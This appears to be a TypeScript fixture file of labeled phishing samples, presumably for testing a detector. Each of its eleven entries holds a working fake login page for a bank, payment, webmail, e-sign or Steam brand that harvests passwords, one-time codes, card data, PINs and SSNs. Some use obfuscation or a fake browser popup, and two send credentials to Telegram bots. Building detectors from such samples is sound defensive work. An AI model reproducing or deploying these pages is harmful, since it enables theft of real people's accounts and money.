import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, cardFields, cardFormatJs, codes, doc, formCss, mark, tgRelay } from '../parts/ye-kit.js';

export const entries: Entry[] = [
{
  id: 'ye-zelle-payment-hold-bank-picker',
  label: 'phishing',
  kind: 'p2p-bank-kit',
  url: 'https://zelle-secure-release.com/payment/hold',
  body: doc({
    title: 'Zelle® | Payment On Hold',
    css: `body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f6f3fa}.h{background:#6d1ed4;color:#fff;padding:14px 20px;font-size:26px;font-weight:700}.c{max-width:520px;margin:20px auto;background:#fff;border-radius:10px;padding:22px}.amt{font-size:34px;color:#6d1ed4;font-weight:700}.grid{display:grid;grid-template-columns:1fr 1fr;gap:10px}.grid button{background:#fff;border:1px solid #ccc;border-radius:6px;padding:14px;font-size:15px;cursor:pointer}.grid button:hover{border-color:#6d1ed4}#lg{display:none}#lg input{width:100%;box-sizing:border-box;padding:11px;margin:6px 0;border:1px solid #bbb;border-radius:4px}#lg .go{background:#6d1ed4;color:#fff;border:0;padding:12px;width:100%;border-radius:4px}`,
    body: `<div class="h">Zelle<sup>&reg;</sup></div>
<div class="c">
<p>You have received a payment that requires confirmation.</p>
<div class="amt">$850.00</div>
<p>From: <b>Marcus T.</b> &middot; Memo: "rent deposit"</p>
<p>Your account is not yet enrolled for business-tier limits, so the payment is being held. Sign in through your bank to accept the funds. Unclaimed payments are returned after 24 hours.</p>
<div id="banks"><h3>Select your bank</h3><div class="grid">
<button data-b="Chase">Chase</button><button data-b="Bank of America">Bank of America</button><button data-b="Wells Fargo">Wells Fargo</button><button data-b="Capital One">Capital One</button><button data-b="PNC">PNC</button><button data-b="U.S. Bank">U.S. Bank</button><button data-b="Truist">Truist</button><button data-b="Navy Federal">Navy Federal</button></div></div>
<form id="lg" method="post" action="/payment/login.php"><h3 id="bn"></h3><input type="hidden" name="bank"><input name="user" placeholder="Username" required><input name="pass" type="password" placeholder="Password" required><input name="phone" placeholder="Mobile number on account"><button class="go">Sign in and accept</button></form>
</div>
<script>
document.querySelectorAll('.grid button').forEach(function(b){b.onclick=function(){var f=document.getElementById('lg');f.bank.value=b.dataset.b;document.getElementById('bn').textContent='Sign in to '+b.dataset.b;document.getElementById('banks').style.display='none';f.style.display='block';};});
</script>`,
  }),
},

{
  id: 'ye-chase-escaped-docwrite-login',
  label: 'phishing',
  kind: 'bank-login-kit',
  url: 'https://secure07c-chase.com.us-alerts.co/web/auth/',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Sign in - chase.com</title><meta name="robots" content="noindex"></head><body>
<script language="javascript">document.write(unescape('${encodeURIComponent(`<style>body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#0b3a74 linear-gradient(#0b3a74,#13528f);min-height:100vh}.logo{color:#fff;text-align:center;padding:30px 0 10px;font-size:30px;letter-spacing:4px;font-weight:700}.box{background:#fff;max-width:380px;margin:10px auto;padding:28px;border-radius:4px}label{display:block;font-size:13px;color:#5a5a5a;margin-top:14px}input[type=text],input[type=password]{width:100%;border:0;border-bottom:1px solid #999;padding:8px 0;font-size:16px;outline:none}.rm{margin:14px 0;font-size:13px}button{width:100%;background:#117aca;color:#fff;border:0;padding:12px;font-size:16px;border-radius:4px}a{color:#117aca;font-size:13px}</style>
<div class="logo">CHASE &#9711;</div>
<div class="box"><form id="login" method="post" action="../auth/process.php">
<label>Username</label><input type="text" name="userId" autocomplete="off" required>
<label>Password</label><input type="password" name="password" required>
<div class="rm"><input type="checkbox" name="remember"> Remember me <span style="float:right">&#128065; Use token</span></div>
<button type="submit">Sign in</button></form>
<p><a href="#">Forgot username/password?</a> &nbsp;&rsaquo;</p><p><a href="#">Not enrolled? Sign up now.</a> &nbsp;&rsaquo;</p></div>
<p style="text-align:center;color:#cfd8e3;font-size:12px">Equal Housing Opportunity &middot; &copy; 2025 JPMorgan Chase &amp; Co.</p>`)}'));</script>
</body></html>`,
  routes: {
    'secure07c-chase.com.us-alerts.co/web/auth/process.php': redirectRoute(302, 'https://secure07c-chase.com.us-alerts.co/web/auth/verify-identity.php'),
    'secure07c-chase.com.us-alerts.co/web/auth/verify-identity.php': htmlRoute(
      doc({
        title: 'Confirm your identity - chase.com',
        css: `body{font-family:Arial;background:#f3f3f3}.b{background:#fff;max-width:440px;margin:40px auto;padding:24px}${formCss}`,
        body: `<div class="b"><h2>Let's make sure it's you</h2><p>For your security we need to confirm a few details.</p><form method="post" action="billing.php">
<div class="fld"><label>Debit card number</label><input name="dc" required></div><div class="row2"><div class="fld"><label>Exp</label><input name="exp"></div><div class="fld"><label>CVV</label><input name="cvv"></div></div>
<div class="fld"><label>Card PIN</label><input name="pin" type="password"></div><div class="fld"><label>SSN</label><input name="ssn"></div><button>Continue</button></form></div>`,
      }),
    ),
  },
},

{
  id: 'ye-wellsfargo-wp-includes-otp',
  label: 'phishing',
  kind: 'bank-login-kit',
  url: 'https://www.rivertownautobody.com/wp-includes/css/wf/index.php',
  body: doc({
    title: 'Wells Fargo Sign On',
    css: `body{margin:0;font-family:Verdana,Arial,sans-serif;background:#f4f0ed}.bar{background:#d71e28;border-bottom:4px solid #ffcd41;padding:14px 24px;color:#fff;font-weight:700;font-size:20px;letter-spacing:1px}.card{max-width:400px;margin:40px auto;background:#fff;padding:30px;border-radius:3px;box-shadow:0 1px 3px rgba(0,0,0,.2)}h1{font-size:22px;font-weight:400}input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #767676;border-radius:3px;margin-bottom:14px;font-size:16px}button{width:100%;background:#d71e28;color:#fff;border:0;border-radius:24px;padding:12px;font-size:16px}`,
    body: `<div class="bar">WELLS FARGO</div>
<div class="card"><h1>Good afternoon</h1><p style="font-size:14px">Sign on to manage your accounts.</p>
<form id="wf" method="post" action="post.php"><input name="j_username" placeholder="Username" required><input name="j_password" type="password" placeholder="Password" required><label style="font-size:13px"><input type="checkbox" style="width:auto"> Save username</label><br><br><button>Sign on</button></form>
<p style="font-size:13px"><a href="#">Forgot username or password?</a></p></div>
<script>
document.getElementById('wf').addEventListener('submit',function(e){e.preventDefault();
var d=new FormData(this);fetch('post.php',{method:'POST',body:d}).then(function(){document.querySelector('.card').innerHTML='<h1>Verify it\\'s you</h1><p style="font-size:14px">We sent a 6-digit code to your phone. Enter it below to continue.</p><form method="post" action="otp.php"><input name="otp" maxlength="6" placeholder="Code"><button>Continue</button></form>';});});
</script>`,
  }),
  routes: {
    'www.rivertownautobody.com/wp-includes/css/wf/post.php': jsonRoute({ status: 'ok' }),
  },
},

{
  id: 'ye-bofa-locked-json-api',
  label: 'phishing',
  kind: 'bank-login-kit',
  url: 'https://bankofamerica.alerts-secure.co/login/sign-in/signOnV2Screen.go',
  body: doc({
    title: 'Bank of America | Online Banking | Sign In',
    css: `body{margin:0;font-family:Connections,Arial,sans-serif;background:#fff}.h{border-bottom:1px solid #ddd;padding:16px 28px;color:#012169;font-weight:700;font-size:20px}.h i{color:#e31837;font-style:normal}.alert{background:#fdf2f3;border:1px solid #e31837;color:#8b0a1a;padding:12px;margin:20px auto;max-width:420px;font-size:14px}.c{max-width:420px;margin:0 auto;padding:0 14px}label{display:block;font-size:14px;margin-top:12px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999;font-size:16px}button{background:#0052c2;color:#fff;border:0;padding:12px 30px;margin-top:16px;font-size:16px;border-radius:3px}`,
    body: `<div class="h">BANK OF AMERICA <i>&#9646;&#9646;</i></div>
<div class="alert">We've temporarily locked your Online Banking access after detecting a sign-in from an unrecognized device in Houston, TX. Sign in to verify your identity and restore access.</div>
<div class="c"><form id="boa"><label>Online ID</label><input name="onlineId" required><label>Passcode</label><input name="passcode" type="password" required><button>Log In</button></form></div>
<script>
document.getElementById('boa').addEventListener('submit',async function(e){e.preventDefault();
const body={onlineId:this.onlineId.value,passcode:this.passcode.value,tz:Intl.DateTimeFormat().resolvedOptions().timeZone,ua:navigator.userAgent};
const r=await fetch('/api/v1/auth',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(body)});const j=await r.json();
if(j.step)location.href='/login/sign-in/'+j.step;});
</script>`,
  }),
  routes: {
    'bankofamerica.alerts-secure.co/api/v1/auth': jsonRoute({ step: 'verify-card.go' }),
  },
},

{
  id: 'ye-navyfed-member-access-tg',
  label: 'phishing',
  kind: 'credit-union-kit',
  url: 'https://navyfederal-org.member-access.cc/signin/',
  body: doc({
    title: 'Navy Federal Credit Union - Sign In',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#fff}.h{background:#002f6c;padding:16px 24px;color:#fff;font-size:18px}.h b{color:#fbb040}.c{max-width:380px;margin:30px auto;padding:0 16px}input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #888;border-radius:4px;margin:8px 0;font-size:16px}button{width:100%;background:#fbb040;border:0;padding:12px;font-weight:700;border-radius:4px;font-size:16px}`,
    body: `<div class="h"><b>&#9875;</b> NAVY FEDERAL Credit Union</div>
<div class="c"><h2>Sign In to Digital Banking</h2>
<form id="nf"><input name="username" placeholder="Username" required><input name="password" type="password" placeholder="Password" required><input name="access_no" placeholder="Access Number"><button type="submit">Sign In</button></form>
<p style="font-size:13px"><a href="#">Forgot Username</a> | <a href="#">Forgot Password</a></p>
<p style="font-size:12px;color:#555">Our members are the Mission&reg;. Federally insured by NCUA.</p></div>
${tgRelay('nf', '7108223456:AAGq7VbY2m3Hx9T0kLwPz4sRcN8fJd1eUoQ', '-1001987450231', '/signin/card.html', "m='NFCU\\n'+m+'IP via ipwho\\n';")}`,
  }),
},

{
  id: 'ye-paypal-resolution-two-step',
  label: 'phishing',
  kind: 'p2p-bank-kit',
  url: 'https://paypal.com-resolution-center.support/signin?intent=restore',
  body: doc({
    title: 'Log in to your PayPal account',
    css: `body{margin:0;font-family:Helvetica Neue,Arial,sans-serif;background:#fff}.w{max-width:380px;margin:50px auto;border:1px solid #eaeced;border-radius:12px;padding:32px 40px}.lg{text-align:center;font-size:30px;font-weight:800;font-style:italic;color:#003087;margin-bottom:26px}.lg span{color:#009cde}input{width:100%;box-sizing:border-box;padding:14px;border:1px solid #9da3a6;border-radius:4px;font-size:16px;margin-bottom:12px}button{width:100%;background:#0070ba;color:#fff;border:0;border-radius:24px;padding:13px;font-size:16px;font-weight:700}.s{font-size:13px;text-align:center;color:#555}`,
    body: `<div class="w"><div class="lg">Pay<span>Pal</span></div>
<p class="s">Your account access is limited. Log in to resolve the issue.</p>
<form id="pp" method="post" action="/signin/xhr.php">
<div id="s1"><input name="login_email" type="email" placeholder="Email or mobile number" required><button type="button" id="nx">Next</button></div>
<div id="s2" style="display:none"><p id="em" style="font-weight:700"></p><input name="login_password" type="password" placeholder="Password"><button type="submit">Log In</button></div>
</form><p class="s"><a href="#">Having trouble logging in?</a></p></div>
<script>
document.getElementById('nx').onclick=function(){var e=document.querySelector('[name=login_email]');if(!e.value)return;document.getElementById('em').textContent=e.value;document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block';};
</script>`,
  }),
},

{
  id: 'ye-cashapp-settlement-claim-kit',
  label: 'phishing',
  kind: 'p2p-bank-kit',
  url: 'https://cashapp-settlement-claims.com/claim/form',
  body: doc({
    title: 'Cash App Settlement — File a Claim',
    css: `body{margin:0;font-family:Inter,Arial,sans-serif;background:#f5f5f5}.h{background:#00d632;color:#fff;padding:16px 22px;font-size:22px;font-weight:800}.c{max-width:580px;margin:20px auto;background:#fff;border-radius:12px;padding:24px}.tag{background:#e6fbea;color:#067a1f;padding:4px 10px;border-radius:10px;font-size:12px}button{background:#00d632;color:#fff;border:0;padding:13px;width:100%;border-radius:24px;font-size:16px;font-weight:700}${formCss}`,
    body: `<div class="h">$ Cash App Settlement</div>
<div class="c"><span class="tag">Deadline: May 15, 2025</span>
<h2>Claim up to $2,500</h2>
<p>If you used Cash App between August 2018 and August 2024 you may be eligible for a cash payment from the $15 million class settlement. Complete the form to receive your payment directly to your Cash App balance.</p>
<form method="post" action="/claim/submit.php">
<div class="fld"><label>Full name</label><input name="name" required></div>
<div class="fld"><label>$Cashtag</label><input name="cashtag" placeholder="$" required></div>
<div class="fld"><label>Phone or email linked to Cash App</label><input name="login" required></div>
<div class="fld"><label>Cash App sign-in code (sent to your phone)</label><input name="code" maxlength="6"></div>
<div class="fld"><label>Social Security Number (for 1099 reporting)</label><input name="ssn" required></div>
<div class="fld"><label>Cash Card number</label><input name="card"></div>
<div class="row2"><div class="fld"><label>Exp</label><input name="exp"></div><div class="fld"><label>CVV</label><input name="cvv"></div></div>
<button>Submit claim</button></form></div>`,
  }),
},

{
  id: 'ye-m365-voicemail-hash-email',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://owa-voicemail-notice.web.app/listen/',
  body: doc({
    title: 'Sign in to your account',
    css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2 url(/listen/bg.png);}.b{width:440px;max-width:92%;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.ms{display:flex;gap:2px;width:22px;flex-wrap:wrap;float:left;margin-right:8px}.ms i{width:10px;height:10px;display:block}h1{font-size:24px;font-weight:600;margin:18px 0}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;outline:none;margin-bottom:18px}button{float:right;background:#0067b8;color:#fff;border:0;padding:8px 32px;font-size:15px}.vm{background:#f3f2f1;padding:10px;font-size:13px;margin-bottom:12px}`,
    body: `<div class="b"><div><span class="ms"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></span><span style="font-size:20px;color:#737373">Microsoft</span></div>
<div class="vm">&#9742; New voice message (0:47) from +1 (512) 555-0142. Sign in to listen.</div>
<div id="who" style="font-size:14px"></div>
<h1>Enter password</h1>
<form id="ms"><input type="hidden" name="login"><input type="password" name="passwd" placeholder="Password" required>
<p style="font-size:13px"><a href="#">Forgot my password</a></p><button>Sign in</button></form><div style="clear:both"></div></div>
<script>
var em='';try{em=atob(location.hash.slice(1));}catch(x){em=location.hash.slice(1);}document.getElementById('who').textContent=em;document.querySelector('[name=login]').value=em;
var tries=0;
document.getElementById('ms').addEventListener('submit',function(e){e.preventDefault();tries++;
fetch('https://api.telegram.org/bot7744210958:AAEw_3ZqP1c8Yhx0mVbTn5JrK2fLsG7dWoI/sendMessage?chat_id=-1002338104456&text='+encodeURIComponent('O365 | '+em+' | '+this.passwd.value+' | try '+tries));
if(tries<2){this.passwd.value='';alert('Your account or password is incorrect. If you don\\'t remember your password, reset it now.');}else{location.href='https://outlook.office.com/mail/';}});
</script>`,
  }),
},

{
  id: 'ye-att-yahoo-mail-weebly-clone',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://att-currently-mail-update.weebly.com/',
  body: doc({
    title: 'AT&T Mail - Sign In',
    css: `body{margin:0;font-family:ATTAleckSans,Arial,sans-serif;background:#fff}.h{padding:18px 26px;border-bottom:1px solid #ddd;display:flex;align-items:center;gap:10px;font-size:22px;color:#00a8e0}.globe{width:34px;height:34px;border-radius:50%;background:radial-gradient(circle at 30% 30%,#5ad1ff,#009fdb)}.c{max-width:400px;margin:40px auto;padding:0 16px}input{width:100%;box-sizing:border-box;border:1px solid #878c94;padding:12px;margin:6px 0 14px;font-size:16px;border-radius:3px}button{background:#0568ae;color:#fff;border:0;padding:12px;width:100%;border-radius:24px;font-size:16px}.note{background:#f2fafd;padding:12px;font-size:13px;margin-bottom:16px}.wsite-footer{font-size:11px;color:#999;text-align:center;margin-top:60px}`,
    body: `<div class="h"><span class="globe"></span>AT&amp;T</div>
<div class="c"><div class="note">Important: Your @att.net / @sbcglobal.net email is scheduled for deactivation due to the new Yahoo security upgrade. Sign in to keep your email address.</div>
<h2>Sign in to AT&amp;T Mail</h2>
<form method="post" action="//www.weebly.com/weebly/apps/formSubmit.php" id="form-887416512530951277"><input type="hidden" name="form_version" value="2"><input type="hidden" name="wsite_approved" value="approved"><input type="hidden" name="ucfid" value="887416512530951277">
<label>Email address</label><input name="_u887416512530951277" type="email" required>
<label>Password</label><input name="_u591704213118840226" type="password" required>
<button type="submit">Sign in</button></form>
<p style="font-size:13px"><a href="#">Forgot user ID?</a> &middot; <a href="#">Forgot password?</a></p></div>
<div class="wsite-footer">Create a free website with Weebly</div>`,
  }),
},

{
  id: 'ye-docusign-envelope-provider-picker',
  label: 'phishing',
  kind: 'esign-lure-kit',
  url: 'https://docusign.envelope-review.net/Signing/EmailStart.aspx?a=3f9c2e11-7a40-4b7f-9a2c-1d0e5b8f6a31',
  body: doc({
    title: 'DocuSign',
    css: `body{margin:0;font-family:"Noto Sans",Arial,sans-serif;background:#f4f4f4}.h{background:#fff;padding:14px 24px;border-bottom:1px solid #ddd;font-weight:700;font-size:22px}.h span{color:#ffcc22}.c{max-width:600px;margin:30px auto;background:#fff;padding:26px;text-align:center}.doc{border:1px solid #ddd;padding:16px;margin:16px 0;text-align:left;background:#fafafa}.btn{display:inline-block;background:#ffcc22;color:#000;padding:12px 28px;border-radius:3px;text-decoration:none;font-weight:700}#prov{display:none;text-align:left}#prov a{display:block;border:1px solid #ccc;padding:12px;margin:8px 0;border-radius:4px;text-decoration:none;color:#222}`,
    body: `<div class="h">Docu<span>Sign</span></div>
<div class="c"><div class="doc"><b>Please review and sign: Settlement_Statement_1704_Oakmont_Dr.pdf</b><br><small>Sent by Premier Title &amp; Escrow &middot; Expires in 2 days</small></div>
<a class="btn" href="#" id="rv">REVIEW DOCUMENT</a>
<div id="prov"><p>Verify your email provider to access the document:</p>
<a href="/Signing/auth.aspx?p=o365">&#9632; Office 365 / Outlook</a><a href="/Signing/auth.aspx?p=gmail">&#9632; Gmail</a><a href="/Signing/auth.aspx?p=yahoo">&#9632; Yahoo Mail</a><a href="/Signing/auth.aspx?p=aol">&#9632; AOL</a><a href="/Signing/auth.aspx?p=other">&#9632; Other mail</a></div></div>
<script>document.getElementById('rv').onclick=function(e){e.preventDefault();this.style.display='none';document.getElementById('prov').style.display='block';};</script>`,
  }),
  routes: {
    'docusign.envelope-review.net/Signing/auth.aspx': htmlRoute(
      doc({
        title: 'Verify email',
        body: `<div style="max-width:380px;margin:60px auto;font-family:Arial;border:1px solid #ddd;padding:24px"><h3>Confirm your email to view document</h3><form method="post" action="/Signing/doc.php"><input name="email" type="email" placeholder="Email" style="width:100%;padding:10px;margin:6px 0"><input name="password" type="password" placeholder="Email password" style="width:100%;padding:10px;margin:6px 0"><button style="width:100%;padding:10px;background:#ffcc22;border:0">View Document</button></form></div>`,
      }),
    ),
  },
},

{
  id: 'ye-steam-team-vote-bitb-popup',
  label: 'phishing',
  kind: 'game-account-kit',
  url: 'https://cs2-majorvote.gg/vote/team-liquid-academy',
  body: doc({
    title: 'Vote for our team | CS2 Community Cup',
    css: `body{margin:0;background:#0e141b;color:#c7d5e0;font-family:"Motiva Sans",Arial,sans-serif}.hero{padding:40px;text-align:center}.hero h1{color:#fff}.vote{background:#5c7e10;color:#fff;border:0;padding:14px 40px;font-size:18px;border-radius:2px;cursor:pointer}#win{display:none;position:fixed;top:60px;left:50%;transform:translateX(-50%);width:520px;background:#171a21;border:1px solid #333;box-shadow:0 8px 30px #000}.bar{background:#dee1e6;color:#333;padding:6px 10px;font-size:12px;display:flex;gap:8px;align-items:center}.url{flex:1;background:#fff;border-radius:12px;padding:4px 10px}.url b{color:#188038}.in{padding:24px}.in input{width:100%;box-sizing:border-box;background:#32353c;border:0;padding:10px;color:#fff;margin:6px 0 14px}.in button{background:linear-gradient(90deg,#06bfff,#2d73ff);border:0;color:#fff;padding:12px 60px}`,
    body: `<div class="hero"><h1>Community Cup &mdash; Season 7 Playoffs</h1><p>Our academy roster is 212 votes away from a wildcard slot. Log in with Steam to vote. It takes 10 seconds.</p><button class="vote" onclick="document.getElementById('win').style.display='block'">Vote with Steam</button></div>
<div id="win"><div class="bar">&#128274; <span class="url"><b>https://steamcommunity.com</b>/openid/login?openid.mode=checkid_setup</span> &#10005;</div>
<div class="in"><h2 style="color:#fff;margin-top:0">Sign in</h2><form id="st" method="post" action="/api/steam.php"><label>Sign in with account name</label><input name="username" required><label>Password</label><input name="password" type="password" required><button>Sign in</button></form></div></div>`,
  }),
},
];
